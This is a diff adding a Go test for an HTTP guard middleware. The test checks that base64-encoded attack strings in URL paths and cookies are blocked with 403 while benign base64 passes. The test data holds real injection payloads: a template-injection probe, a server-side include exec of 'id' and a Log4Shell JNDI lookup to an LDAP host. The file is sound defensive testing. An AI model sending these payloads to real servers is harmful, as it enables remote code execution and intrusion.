@@ -1,0 +1,63 @@
+package guardhttp_test
+
+import (
+	"encoding/base64"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+
+	"go.uber.org/zap"
+
+	"github.com/fnguard/fnguard/guard"
+	"github.com/fnguard/fnguard/middleware/guardhttp"
+)
+
+// TestBase64Placements: base64 text is judged in the last segments of a
+// URL path and when it is sent URL-encoded (a cookie's %3D padding), as in
+// a query value; benign base64 and benign paths pass.
+func TestBase64Placements(t *testing.T) {
+	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
+	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+	for _, c := range []struct {
+		name string
+		req  func() *http.Request
+		want int
+	}{
+		{"path segment", func() *http.Request { return pathReq("/api/" + b64("{{config.items()}}") + "/x") }, 403},
+		{"path tail with a slash in the base64", func() *http.Request { return pathReq("/api/" + b64("<!--#exec cmd=\"id\"-->")) }, 403},
+		{"cookie with escaped padding", func() *http.Request {
+			r := httptest.NewRequest("GET", "/api", nil)
+			r.Header.Set("Cookie", "sid="+url.QueryEscape(b64("${jndi:ldap://x/a}")))
+			return r
+		}, 403},
+		{"benign base64 in a path", func() *http.Request { return pathReq("/files/" + b64("hello, world: a plain note") + "/view") }, 200},
+		{"benign escaped base64 cookie", func() *http.Request {
+			r := httptest.NewRequest("GET", "/api", nil)
+			r.Header.Set("Cookie", "sid="+url.QueryEscape(b64("session 42 of user bob?")))
+			return r
+		}, 200},
+		{"benign path", func() *http.Request { return pathReq("/api/v1/users/profile/settings/notifications") }, 200},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			w := httptest.NewRecorder()
+			h.ServeHTTP(w, c.req())
+			if w.Code != c.want {
+				t.Errorf("status %d, want %d (body %s)", w.Code, c.want, strings.TrimSpace(w.Body.String()))
+			}
+		})
+	}
+}
+
+func pathReq(raw string) *http.Request {
+	r := httptest.NewRequest("GET", "/", nil)
+	r.URL.RawPath = raw
+	r.URL.Path, _ = url.PathUnescape(raw)
+	r.RequestURI = raw
+	return r
+}
